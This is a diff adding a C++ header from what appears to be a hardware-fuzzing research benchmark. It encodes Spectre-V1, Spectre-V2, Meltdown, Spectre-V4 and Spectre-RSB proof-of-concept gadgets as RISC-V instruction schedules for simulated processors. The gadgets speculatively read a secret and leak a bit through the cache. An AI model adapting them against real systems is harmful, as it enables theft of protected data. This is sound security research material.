@@ -1,0 +1,283 @@
+/**
+ * @file
+ * The five classic transient-execution PoCs used by the paper's
+ * micro-benchmarks (Table 4 simulation rows, Fig. 6 taint series):
+ * Spectre-V1, Spectre-V2, Meltdown, Spectre-V4 and Spectre-RSB, each
+ * expressed as a swap schedule against the shared substrate.
+ */
+
+#ifndef DEJAVUZZ_BENCH_POC_SUITE_HH
+#define DEJAVUZZ_BENCH_POC_SUITE_HH
+
+#include <string>
+#include <vector>
+
+#include "harness/stimulus.hh"
+#include "isa/builder.hh"
+#include "swapmem/layout.hh"
+#include "swapmem/packet.hh"
+#include "util/rng.hh"
+
+namespace dejavuzz::bench {
+
+struct Poc
+{
+    std::string name;
+    swapmem::SwapSchedule schedule;
+    harness::StimulusData data;
+};
+
+namespace poc_detail {
+
+using isa::Op;
+using namespace isa::reg;
+
+inline swapmem::SwapPacket
+packetOf(isa::ProgBuilder &prog, const char *label,
+         swapmem::PacketKind kind)
+{
+    swapmem::SwapPacket packet;
+    packet.label = label;
+    packet.kind = kind;
+    packet.instrs = prog.finish();
+    return packet;
+}
+
+inline swapmem::SwapPacket
+warmPacket()
+{
+    isa::ProgBuilder warm(swapmem::kSwapBase);
+    warm.la(s1, swapmem::kSecretAddr);
+    warm.ld(t5, s1, 0);
+    warm.la(t2, swapmem::kLeakArrayAddr + 0x100);
+    warm.ld(t5, t2, 0x400); // probe-page TLB
+    warm.swapnext();
+    return packetOf(warm, "window_train", swapmem::PacketKind::WindowTrain);
+}
+
+/** Common prologue: bases, slow condition chain into a0. */
+inline void
+prologue(isa::ProgBuilder &prog)
+{
+    prog.la(s1, swapmem::kSecretAddr);
+    prog.la(t2, swapmem::kLeakArrayAddr + 0x100);
+    prog.la(t4, swapmem::kOperandAddr);
+    prog.li(t5, 1);
+    prog.ld(a0, t4, 0);
+    prog.emit(Op::DIV, a0, a0, t5, 0);
+    prog.emit(Op::DIV, a0, a0, t5, 0);
+}
+
+/** Secret access + d-cache encode of bit 0. */
+inline void
+payload(isa::ProgBuilder &prog)
+{
+    prog.lb(s0, s1, 0);
+    prog.andi(t1, s0, 1);
+    prog.slli(t1, t1, 6);
+    prog.add(t1, t1, t2);
+    prog.ld(s3, t1, 0);
+    prog.nop();
+}
+
+} // namespace poc_detail
+
+/** Spectre-V1: untrained-taken branch, window on the fall-through. */
+inline Poc
+spectreV1()
+{
+    using namespace poc_detail;
+    Poc poc;
+    poc.name = "Spectre-V1";
+    Rng rng(0x51);
+    poc.data = harness::StimulusData::random(rng);
+    poc.data.operands[0] = 1;
+
+    isa::ProgBuilder prog(swapmem::kSwapBase);
+    prologue(prog);
+    isa::Label exit_lbl = prog.newLabel();
+    prog.branch(Op::BNE, a0, zero, exit_lbl);
+    payload(prog);
+    prog.bind(exit_lbl);
+    prog.swapnext();
+
+    poc.schedule.packets.push_back(warmPacket());
+    poc.schedule.packets.push_back(
+        packetOf(prog, "transient", swapmem::PacketKind::Transient));
+    return poc;
+}
+
+/** Spectre-V2: indirect jump trained to the window address. */
+inline Poc
+spectreV2()
+{
+    using namespace poc_detail;
+    Poc poc;
+    poc.name = "Spectre-V2";
+    Rng rng(0x52);
+    poc.data = harness::StimulusData::random(rng);
+    constexpr uint64_t kTrigger = swapmem::kSwapBase + 0x100;
+    constexpr uint64_t kWindow = kTrigger + 0x40;
+    constexpr uint64_t kExit = swapmem::kSwapBase + 0x200;
+    poc.data.operands[1] = kExit;
+
+    // Training: same jump, steered to the window.
+    isa::ProgBuilder train(swapmem::kSwapBase);
+    train.li(t5, kWindow);
+    train.padTo(kTrigger);
+    train.jalr(0, t5, 0);
+    train.padTo(kWindow);
+    train.swapnext();
+
+    isa::ProgBuilder prog(swapmem::kSwapBase);
+    prog.la(s1, swapmem::kSecretAddr);
+    prog.la(t2, swapmem::kLeakArrayAddr + 0x100);
+    prog.li(t5, 1);
+    // The slow chain sits right before the trigger so it resolves
+    // well after fetch has redirected into the trained window.
+    prog.padTo(kTrigger - 5 * 4);
+    prog.la(t1, swapmem::kOperandAddr + 8);
+    prog.ld(a0, t1, 0); // architectural target: exit
+    prog.emit(Op::DIV, a0, a0, t5, 0);
+    prog.emit(Op::DIV, a0, a0, t5, 0);
+    prog.jalr(0, a0, 0);
+    prog.padTo(kWindow);
+    payload(prog);
+    prog.padTo(kExit);
+    prog.swapnext();
+
+    poc.schedule.packets.push_back(warmPacket());
+    isa::ProgBuilder train2(swapmem::kSwapBase);
+    train2.li(t5, kWindow);
+    train2.padTo(kTrigger);
+    train2.jalr(0, t5, 0);
+    train2.padTo(kWindow);
+    train2.swapnext();
+    poc.schedule.packets.push_back(packetOf(
+        train2, "trigger_train_0", swapmem::PacketKind::TriggerTrain));
+    poc.schedule.packets.push_back(
+        packetOf(prog, "transient", swapmem::PacketKind::Transient));
+    return poc;
+}
+
+/** Meltdown: protected secret accessed inside a fault window. */
+inline Poc
+meltdown()
+{
+    using namespace poc_detail;
+    Poc poc;
+    poc.name = "Meltdown";
+    Rng rng(0x4d);
+    poc.data = harness::StimulusData::random(rng);
+
+    isa::ProgBuilder prog(swapmem::kSwapBase);
+    prologue(prog);
+    // The slow chain result delays the faulting access's commit.
+    prog.emit(Op::DIV, a0, a0, t5, 0);
+    payload(prog); // lb faults (PMP) but forwards the warm secret
+    prog.swapnext();
+
+    poc.schedule.packets.push_back(warmPacket());
+    poc.schedule.packets.push_back(
+        packetOf(prog, "transient", swapmem::PacketKind::Transient));
+    poc.schedule.transient_prot = swapmem::SecretProt::Pmp;
+    return poc;
+}
+
+/** Spectre-V4: speculative store bypass (memory disambiguation). */
+inline Poc
+spectreV4()
+{
+    using namespace poc_detail;
+    Poc poc;
+    poc.name = "Spectre-V4";
+    Rng rng(0x54);
+    poc.data = harness::StimulusData::random(rng);
+    poc.data.operands[3] = swapmem::kScratchAddr + 0x80;
+
+    isa::ProgBuilder prog(swapmem::kSwapBase);
+    prog.la(s1, swapmem::kSecretAddr);
+    prog.la(t2, swapmem::kLeakArrayAddr + 0x100);
+    prog.li(t5, 1);
+    prog.li(a2, 0); // the overwriting value
+    prog.la(a4, swapmem::kScratchAddr + 0x80);
+    // Stale pointer to the secret sits in memory; warm its line.
+    prog.la(t1, swapmem::kSecretAddr);
+    prog.sd(t1, a4, 0);
+    // Slow store-address chain right before the store so the younger
+    // load issues past it speculatively.
+    prog.la(t1, swapmem::kOperandAddr + 24);
+    prog.ld(a3, t1, 0);
+    prog.emit(Op::DIV, a3, a3, t5, 0);
+    prog.emit(Op::DIV, a3, a3, t5, 0);
+    prog.sd(a2, a3, 0); // overwrite (slow address)
+    prog.ld(t1, a4, 0); // speculative load: reads the stale pointer
+    prog.lb(s0, t1, 0); // dereference: the secret
+    prog.andi(t1, s0, 1);
+    prog.slli(t1, t1, 6);
+    prog.add(t1, t1, t2);
+    prog.ld(s3, t1, 0);
+    prog.swapnext();
+
+    poc.schedule.packets.push_back(warmPacket());
+    poc.schedule.packets.push_back(
+        packetOf(prog, "transient", swapmem::PacketKind::Transient));
+    return poc;
+}
+
+/** Spectre-RSB: return steered into the window by a trained RAS. */
+inline Poc
+spectreRsb()
+{
+    using namespace poc_detail;
+    Poc poc;
+    poc.name = "Spectre-RSB";
+    Rng rng(0x5b);
+    poc.data = harness::StimulusData::random(rng);
+    constexpr uint64_t kTrigger = swapmem::kSwapBase + 0x100;
+    constexpr uint64_t kWindow = kTrigger + 0x40;
+    constexpr uint64_t kExit = swapmem::kSwapBase + 0x200;
+    poc.data.operands[1] = kExit;
+
+    // Training: call whose return address is the window start; the
+    // callee exits without returning.
+    isa::ProgBuilder train(swapmem::kSwapBase);
+    train.padTo(kWindow - 4);
+    train.emit(Op::JAL, 1, 0, 0, 8);
+    train.nop();
+    train.swapnext();
+
+    isa::ProgBuilder prog(swapmem::kSwapBase);
+    prog.la(s1, swapmem::kSecretAddr);
+    prog.la(t2, swapmem::kLeakArrayAddr + 0x100);
+    prog.li(t5, 1);
+    prog.padTo(kTrigger - 5 * 4);
+    prog.la(t1, swapmem::kOperandAddr + 8);
+    prog.ld(1 /*ra*/, t1, 0);
+    prog.emit(Op::DIV, 1, 1, t5, 0);
+    prog.emit(Op::DIV, 1, 1, t5, 0);
+    prog.ret();
+    prog.padTo(kWindow);
+    payload(prog);
+    prog.padTo(kExit);
+    prog.swapnext();
+
+    poc.schedule.packets.push_back(warmPacket());
+    poc.schedule.packets.push_back(packetOf(
+        train, "trigger_train_0", swapmem::PacketKind::TriggerTrain));
+    poc.schedule.packets.push_back(
+        packetOf(prog, "transient", swapmem::PacketKind::Transient));
+    return poc;
+}
+
+/** The five-PoC suite in the paper's Table-4 order. */
+inline std::vector<Poc>
+pocSuite()
+{
+    return {spectreV1(), spectreV2(), meltdown(), spectreV4(),
+            spectreRsb()};
+}
+
+} // namespace dejavuzz::bench
+
+#endif // DEJAVUZZ_BENCH_POC_SUITE_HH
